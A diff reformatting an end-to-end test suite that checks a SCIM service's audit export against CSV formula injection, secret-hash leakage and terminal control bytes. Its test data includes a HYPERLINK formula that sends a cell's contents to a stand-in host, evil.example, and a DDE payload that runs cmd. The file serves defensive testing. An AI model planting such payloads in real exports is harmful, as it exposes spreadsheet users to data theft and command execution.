@@ -57,23 +57,26 @@ describe(`output that others open, on ${E2E_DATABASE}`, () => {
     await drop?.();
   });
 
-  it.each([
-    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")'],
-    ["+cmd|' /C calc'!A0"],
-    ['-2+3'],
-    ['@SUM(1+1)'],
-  ])('given a user created with User-Agent %j, when the audit is exported as CSV, then the cell is text, not a formula', async (agent) => {
-    const userName = `csv-${randomUUID().slice(0, 8)}@open.test`;
-    const created = await request(t.http).post('/scim/v2/Users').set('Authorization', `Bearer ${token}`).set('Content-Type', SCIM_JSON).set('User-Agent', agent).send(entraUser(userName));
-    expect(created.status).toBe(201);
+  it.each([['=HYPERLINK("http://evil.example/?x="&A1,"Click")'], ["+cmd|' /C calc'!A0"], ['-2+3'], ['@SUM(1+1)']])(
+    'given a user created with User-Agent %j, when the audit is exported as CSV, then the cell is text, not a formula',
+    async (agent) => {
+      const userName = `csv-${randomUUID().slice(0, 8)}@open.test`;
+      const created = await request(t.http)
+        .post('/scim/v2/Users')
+        .set('Authorization', `Bearer ${token}`)
+        .set('Content-Type', SCIM_JSON)
+        .set('User-Agent', agent)
+        .send(entraUser(userName));
+      expect(created.status).toBe(201);
 
-    const csv = await request(t.http).get(`/admin/v1/tenants/open/audit?format=csv&userId=${created.body.id}`).auth(admin.clientId, admin.clientSecret);
+      const csv = await request(t.http).get(`/admin/v1/tenants/open/audit?format=csv&userId=${created.body.id}`).auth(admin.clientId, admin.clientSecret);
 
-    const [header, ...rows] = csvRows(csv.text);
-    const cells = rows.map((row) => Object.fromEntries(header.map((column, i) => [column, row[i]])));
-    expect(cells.map((cell) => cell.userAgent)).toEqual([`'${agent}`]);
-    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
-  });
+      const [header, ...rows] = csvRows(csv.text);
+      const cells = rows.map((row) => Object.fromEntries(header.map((column, i) => [column, row[i]])));
+      expect(cells.map((cell) => cell.userAgent)).toEqual([`'${agent}`]);
+      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    },
+  );
 
   it('given the tenant issued API credentials and SCIM tokens, when its audit trail is read or exported, then no hash of a secret or a token is shown (found by the fourth attack on issue 15)', async () => {
     const second = await request(t.http).post('/admin/v1/tenants/open/api-credentials').auth(admin.clientId, admin.clientSecret).send({ name: 'second' });
@@ -85,13 +88,22 @@ describe(`output that others open, on ${E2E_DATABASE}`, () => {
       expect(read.status).toBe(200);
       expect(read.text).toContain('ApiCredentialIssued');
       expect(read.text).toContain('ScimTokenGenerated');
-      expect({ format, fields: read.text.match(/secretHash|tokenHash/g), hashes: hashes.filter((hash) => read.text.includes(hash)) }).toEqual({ format, fields: null, hashes: [] });
+      expect({ format, fields: read.text.match(/secretHash|tokenHash/g), hashes: hashes.filter((hash) => read.text.includes(hash)) }).toEqual({
+        format,
+        fields: null,
+        hashes: [],
+      });
     }
   });
 
   it('given a User-Agent with a C1 control byte (obs-text, which HTTP lets through), when it is recorded, then the event keeps U+FFFD in its place', async () => {
     const userName = `c1-${randomUUID().slice(0, 8)}@open.test`;
-    const created = await request(t.http).post('/scim/v2/Users').set('Authorization', `Bearer ${token}`).set('Content-Type', SCIM_JSON).set('User-Agent', 'Okta\u009b31m\u0085x').send(entraUser(userName));
+    const created = await request(t.http)
+      .post('/scim/v2/Users')
+      .set('Authorization', `Bearer ${token}`)
+      .set('Content-Type', SCIM_JSON)
+      .set('User-Agent', 'Okta\u009b31m\u0085x')
+      .send(entraUser(userName));
     const feed = await request(t.http).get(`/admin/v1/tenants/open/audit?userId=${created.body.id}`).auth(admin.clientId, admin.clientSecret);
     // The client sends U+009B as UTF-8 (C2 9B); Node reads header bytes as latin1: "Â" and the C1 control.
     expect(feed.body.entries.map((entry: { userAgent: string }) => entry.userAgent)).toEqual(['Okta\u00c2\ufffd31m\u00c2\ufffdx']);
@@ -116,7 +128,15 @@ describe(`output that others open, on ${E2E_DATABASE}`, () => {
         provisionedBy: 'scim',
         placement: null,
       };
-      const metadata = { tenantId: 'open', actor: { kind: 'scim-token', id: `tok\u001b[31m` }, requestId: 'req-hostile', userAgent: hostile, clientAddress: null, occurredAt: new Date().toISOString(), schemaVersion: 2 };
+      const metadata = {
+        tenantId: 'open',
+        actor: { kind: 'scim-token', id: `tok\u001b[31m` },
+        requestId: 'req-hostile',
+        userAgent: hostile,
+        clientAddress: null,
+        occurredAt: new Date().toISOString(),
+        schemaVersion: 2,
+      };
       await store.append(userStreamId(userId), [{ id: randomUUID(), type: 'UserCreated', data, metadata }], 'no_stream');
     } finally {
       await store.close();
